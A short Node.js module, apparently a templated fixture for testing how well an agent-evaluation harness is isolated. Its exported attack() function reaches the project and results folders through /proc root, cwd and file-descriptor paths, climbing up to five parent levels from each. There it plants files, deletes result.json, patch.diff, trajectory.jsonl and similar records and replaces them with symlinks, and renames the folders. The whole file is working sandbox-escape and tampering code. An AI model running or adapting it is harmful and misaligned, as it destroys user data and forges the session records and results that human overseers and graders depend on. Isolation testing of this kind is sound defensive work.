// Changes what the session leaves to its user: the project itself, and the folder of results.
const fs = require('node:fs')
const path = require('node:path')

const PLACES = '@places@'.split(' ')

function list(folder) {
  try {
    return fs.readdirSync(folder).map((name) => path.join(folder, name))
  } catch {
    return []
  }
}

// Each place by its path, and by what processes have open; its last two names are nobody else's.
function ways() {
  const processes = list('/proc').filter((name) => /^\/proc\/\d+$/.test(name))
  const roots = processes.map((process) => `${process}/root`).concat(list('/proc/self/fd'))
  const heres = processes.flatMap((process) => [`${process}/cwd`, ...list(`${process}/fd`)])
  const above = heres.flatMap((here) => [0, 1, 2, 3, 4, 5].map((levels) => here + '/..'.repeat(levels)))
  return PLACES.flatMap((place) => {
    const own = place.split('/').slice(-2).join('/')
    return [place, ...roots.map((root) => root + place), ...above.map((here) => `${here}/${own}`)]
  })
}

function replace(place) {
  fs.rmSync(place, { force: true })
  fs.symlinkSync('@target@', place)
}

const DEEDS = [
  (way) => fs.writeFileSync(`${way}/planted.txt`, 'planted'),
  ...['result.json', 'patch.diff', 'trajectory.jsonl', '.patchwright-files', 'sum.js'].map((name) => (way) => replace(`${way}/${name}`)),
  (way) => fs.renameSync(way, `${way}.planted`)
]

function attack() {
  for (const way of ways()) {
    for (const deed of DEEDS) {
      try {
        deed(way)
      } catch {
        // The next one may work.
      }
    }
  }
}

exports.attack = attack
